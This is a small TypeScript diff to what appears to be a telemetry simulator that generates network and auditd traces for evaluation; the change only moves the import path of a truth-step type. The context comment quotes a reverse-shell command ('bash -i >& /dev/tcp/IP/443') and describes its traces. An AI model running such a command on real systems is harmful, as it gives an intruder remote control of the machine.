@@ -3,12 +3,12 @@
 // a `bash -i >& /dev/tcp/IP/443` reverse shell. The network sees requests and one long
 // outbound connection; auditd sees the www-data execve chain and its connect().
 
+import type { TruthStepDraft } from '../eval/truth';
 import { exec } from './actions';
 import { connectEvent, UNSET } from './audit-format';
 import { type Ctx, ephemeralPort, tcpSession } from './ctx';
 import type { Rng } from './prng';
 import { iso } from './time-format';
-import type { TruthStepDraft } from './truth';
 import { type Host, hostOf } from './world';
 
 const S = 1_000;
